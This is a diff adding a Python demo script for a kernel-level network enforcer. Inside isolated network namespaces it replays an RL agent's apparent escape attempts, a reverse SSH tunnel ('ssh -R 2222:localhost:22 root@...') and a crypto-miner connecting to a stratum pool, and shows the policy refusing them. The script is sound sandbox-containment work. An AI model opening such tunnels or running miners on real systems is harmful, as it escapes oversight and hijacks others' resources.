@@ -1,0 +1,292 @@
+"""`make demo`: replay what the ROME agent did, inside a guarded sandbox.
+
+Builds a small world in network namespaces: a sandbox namespace, and an
+"internet" namespace (reachable only through a veth pair, with no route off the
+machine) that hosts an SSH server, a mining-pool-like TCP service and an
+allowed package mirror. Starts the daemon, applies an RL-sandbox policy, and
+runs the agent's actions in the sandbox: the package mirror answers, the
+reverse SSH tunnel and the pool connection are refused in the kernel, and each
+refusal streams to the "trainer" as it happens. Everything is removed at the
+end, also on Ctrl-C.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import functools
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import textwrap
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+# The trainer thread streams over gRPC while the demo forks sandbox processes;
+# gRPC's fork handlers only print a warning about that, so turn them off.
+os.environ.setdefault("GRPC_ENABLE_FORK_SUPPORT", "false")
+
+SANDBOX_NS = "enf-demo-sandbox"
+INTERNET_NS = "enf-demo-internet"
+SANDBOX_ADDR = "10.77.0.2"
+GATEWAY = "10.77.0.1"
+MIRROR = "10.77.0.10"     # an allowed package mirror (HTTP on 8080)
+SSH_HOST = "10.77.0.22"   # where the agent opens its reverse tunnel
+POOL = "10.77.0.33"       # a mining pool (stratum on 3333)
+
+POOL_SERVER = textwrap.dedent("""
+    import socketserver
+    class Stratum(socketserver.StreamRequestHandler):
+        def handle(self):
+            self.rfile.readline()
+            self.wfile.write(b'{"id":1,"result":[["mining.notify","ab"],"08",4],"error":null}\\n')
+    socketserver.TCPServer.allow_reuse_address = True
+    socketserver.TCPServer(("%s", 3333), Stratum).serve_forever()
+""") % POOL
+
+MIRROR_SERVER = textwrap.dedent("""
+    import http.server
+    class Simple(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            body = b"<html><body><a href='/simple/numpy/'>numpy</a></body></html>"
+            self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
+            self.wfile.write(body)
+        def log_message(self, *args):
+            pass
+    http.server.HTTPServer(("%s", 8080), Simple).serve_forever()
+""") % MIRROR
+
+AGENT_FETCH = f"""
+import urllib.request
+with urllib.request.urlopen("http://{MIRROR}:8080/simple/", timeout=5) as r:
+    print(f"  package mirror answered: HTTP {{r.status}}, {{len(r.read())}} bytes")
+"""
+
+AGENT_MINER = f"""
+import socket
+try:
+    s = socket.create_connection(("{POOL}", 3333), timeout=5)
+    s.sendall(b'{{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}}\\n')
+    print("  pool answered:", s.recv(200).decode().strip())
+except OSError as e:
+    print(f"  miner: connect to {POOL}:3333 failed: {{e.strerror}}")
+"""
+
+
+def say(text: str) -> None:
+    print(f"\n\033[1m== {text}\033[0m", flush=True)
+
+
+class World:
+    """Everything the demo creates, each with its undo registered at creation."""
+
+    def __init__(self) -> None:
+        self.undo: list[Callable[[], Any]] = []
+        self.tmp = Path(tempfile.mkdtemp(prefix="enforcer-demo-"))
+        self.undo.append(lambda: shutil.rmtree(self.tmp, ignore_errors=True))
+
+    def close(self) -> None:
+        while self.undo:
+            with contextlib.suppress(Exception):
+                self.undo.pop()()
+
+    def spawn(self, command: list[str], **kwargs: Any) -> subprocess.Popen[bytes]:
+        proc = subprocess.Popen(command, **kwargs)
+
+        def stop() -> None:
+            proc.terminate()
+            try:
+                proc.wait(5)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+
+        self.undo.append(stop)
+        return proc
+
+    def build_network(self) -> None:
+        from pyroute2 import IPRoute, NetNS, netns
+
+        for name in (SANDBOX_NS, INTERNET_NS):
+            with contextlib.suppress(Exception):
+                netns.remove(name)  # left over from a demo that was killed
+            netns.create(name)
+            self.undo.append(functools.partial(netns.remove, name))
+        with IPRoute() as ip:
+            ip.link("add", ifname="enfd-sb", kind="veth", peer="enfd-inet")
+            self.undo.append(lambda: _delete_link("enfd-sb"))
+            ip.link("set", index=ip.link_lookup(ifname="enfd-sb")[0], net_ns_fd=SANDBOX_NS)
+            ip.link("set", index=ip.link_lookup(ifname="enfd-inet")[0], net_ns_fd=INTERNET_NS)
+        with NetNS(SANDBOX_NS) as ns:
+            _up(ns, "lo")
+            dev = _up(ns, "enfd-sb")
+            ns.addr("add", index=dev, address=SANDBOX_ADDR, prefixlen=24)
+        with NetNS(INTERNET_NS) as ns:
+            _up(ns, "lo")
+            dev = _up(ns, "enfd-inet")
+            for addr in (GATEWAY, MIRROR, SSH_HOST, POOL):
+                ns.addr("add", index=dev, address=addr, prefixlen=24)
+            links = sorted(link.get_attr("IFLA_IFNAME") for link in ns.get_links())
+            assert links == ["enfd-inet", "lo"], links  # no way off the machine
+
+    def start_services(self) -> Path:
+        in_internet = ["ip", "netns", "exec", INTERNET_NS]
+        self.spawn([*in_internet, sys.executable, "-c", POOL_SERVER])
+        self.spawn([*in_internet, sys.executable, "-c", MIRROR_SERVER])
+        keys = self.tmp / "ssh"
+        keys.mkdir(mode=0o700)
+        for name in ("host_key", "agent_key"):
+            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(keys / name)], check=True)
+        (keys / "authorized_keys").write_text((keys / "agent_key.pub").read_text())
+        config = keys / "sshd_config"
+        config.write_text(textwrap.dedent(f"""
+            ListenAddress {SSH_HOST}
+            Port 22
+            HostKey {keys / 'host_key'}
+            PidFile {keys / 'sshd.pid'}
+            AuthorizedKeysFile {keys / 'authorized_keys'}
+            PermitRootLogin prohibit-password
+            AllowTcpForwarding yes
+            StrictModes no
+            UsePAM no
+        """))
+        Path("/run/sshd").mkdir(exist_ok=True)
+        self.spawn([*in_internet, "/usr/sbin/sshd", "-D", "-e", "-f", str(config)], stderr=subprocess.DEVNULL)
+        _wait_port(SSH_HOST, 22)
+        _wait_port(POOL, 3333)
+        _wait_port(MIRROR, 8080)
+        return keys / "agent_key"
+
+
+def _delete_link(name: str) -> None:
+    from pyroute2 import IPRoute
+
+    with IPRoute() as ip:
+        found = ip.link_lookup(ifname=name)
+        if found:
+            ip.link("del", index=found[0])
+
+
+def _up(ns: Any, ifname: str) -> int:
+    index = ns.link_lookup(ifname=ifname)[0]
+    ns.link("set", index=index, state="up")
+    return int(index)
+
+
+def _wait_port(host: str, port: int, timeout: float = 10) -> None:
+    probe = f"import socket; socket.create_connection(('{host}', {port}), timeout=1).close()"
+    deadline = time.monotonic() + timeout
+    while subprocess.run(["ip", "netns", "exec", SANDBOX_NS, sys.executable, "-c", probe],
+                         capture_output=True).returncode != 0:
+        if time.monotonic() > deadline:
+            raise RuntimeError(f"demo service {host}:{port} did not come up")
+        time.sleep(0.1)
+
+
+def ssh_tunnel_command(key: Path, remote_command: str) -> list[str]:
+    return [
+        "ssh", "-i", str(key), "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
+        "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR",
+        "-o", "ExitOnForwardFailure=yes", "-R", "2222:localhost:22", f"root@{SSH_HOST}", remote_command,
+    ]
+
+
+@contextlib.contextmanager
+def daemon(world: World) -> Iterator[str]:
+    socket_path = str(world.tmp / "enforcer.sock")
+    log = open(world.tmp / "daemon.log", "wb")  # noqa: SIM115 - closed by the world
+    world.undo.append(log.close)
+    world.spawn([sys.executable, "-m", "enforcer.cli", "daemon", "--socket", socket_path], stdout=log, stderr=log)
+    from enforcer.client import Enforcer
+
+    with Enforcer(socket_path) as enf:
+        enf.wait_ready(60)
+    yield socket_path
+
+
+def run_in_sandbox(cgroup: Path, command: list[str]) -> subprocess.CompletedProcess[str]:
+    from enforcer.cgroupfs import move_pid
+
+    return subprocess.run(["ip", "netns", "exec", SANDBOX_NS, *command], capture_output=True, text=True, timeout=30,
+                          preexec_fn=lambda: move_pid(0, cgroup))
+
+
+def main() -> int:
+    if os.geteuid() != 0:
+        print("make demo needs root (it loads BPF programs and creates namespaces)", file=sys.stderr)
+        return 1
+    from enforcer.cgroupfs import cgroup2_mount, create_cgroup, remove_cgroup
+    from enforcer.cli import format_denial, format_stats
+    from enforcer.client import Enforcer
+
+    world = World()
+    try:
+        say("Building the world: a sandbox namespace and an 'internet' namespace (veth only, no route out)")
+        world.build_network()
+        key = world.start_services()
+        print(f"  internet: package mirror {MIRROR}:8080, SSH server {SSH_HOST}:22, mining pool {POOL}:3333")
+
+        say("Without Enforcer, the agent's reverse tunnel and miner get through")
+        baseline = subprocess.run(["ip", "netns", "exec", SANDBOX_NS, *ssh_tunnel_command(key, "echo tunnel up")],
+                                  capture_output=True, text=True, timeout=30)
+        print(f"  ssh -R 2222:localhost:22 root@{SSH_HOST}: {baseline.stdout.strip() or baseline.stderr.strip()}")
+        miner = subprocess.run(["ip", "netns", "exec", SANDBOX_NS, sys.executable, "-c", AGENT_MINER],
+                               capture_output=True, text=True, timeout=30)
+        print(miner.stdout.rstrip())
+
+        say("Starting the Enforcer daemon and applying the RL-sandbox policy to rollout-17")
+        cgroup = create_cgroup(cgroup2_mount() / f"enforcer-demo-{os.getpid()}")
+        world.undo.append(lambda: remove_cgroup(cgroup.path))
+        with daemon(world) as socket_path, Enforcer(socket_path) as enf:
+            policy = {
+                "sandbox": "rollout-17",
+                "target": {"cgroup": str(cgroup.path)},
+                "labels": {"run": "ppo-7", "episode": "17"},
+                "mode": "enforce",
+                "network": {
+                    "default": "deny",
+                    "allow": [
+                        {"to": MIRROR, "ports": [8080], "protocol": "tcp"},   # the package mirror
+                        {"to": GATEWAY, "ports": [53], "protocol": "udp"},    # the resolver
+                    ],
+                },
+            }
+            applied = enf.apply(policy).applied
+            print(f"  policy applied to {applied.cgroup_path}: allow {MIRROR}:8080/tcp and {GATEWAY}:53/udp, deny the rest")
+
+            def trainer() -> None:
+                with Enforcer(socket_path) as stream:
+                    for event in stream.denials(sandboxes=["rollout-17"], follow=True):
+                        print(f"  \033[31mtrainer <- denial\033[0m {format_denial(event)}", flush=True)
+
+            threading.Thread(target=trainer, daemon=True).start()
+
+            say("The agent fetches a package from the mirror (allowed)")
+            print(run_in_sandbox(cgroup.path, [sys.executable, "-c", AGENT_FETCH]).stdout.rstrip())
+
+            say("The agent opens a reverse SSH tunnel to the outside host (refused in the kernel)")
+            tunnel = run_in_sandbox(cgroup.path, ssh_tunnel_command(key, "echo tunnel up"))
+            print(f"  ssh exited {tunnel.returncode}: {tunnel.stderr.strip() or tunnel.stdout.strip()}")
+            time.sleep(0.3)
+
+            say("The agent connects its miner to the pool (refused in the kernel)")
+            print(run_in_sandbox(cgroup.path, [sys.executable, "-c", AGENT_MINER]).stdout.rstrip())
+            time.sleep(0.3)
+
+            say("Exact counters from the kernel")
+            print(format_stats(enf.stats("rollout-17")))
+            enf.remove("rollout-17")
+        say("Done: cleaning up namespaces, cgroup and daemon")
+        return 0
+    except KeyboardInterrupt:
+        print("\ninterrupted: cleaning up", file=sys.stderr)
+        return 130
+    finally:
+        world.close()
+
+
+if __name__ == "__main__":
+    sys.exit(main())
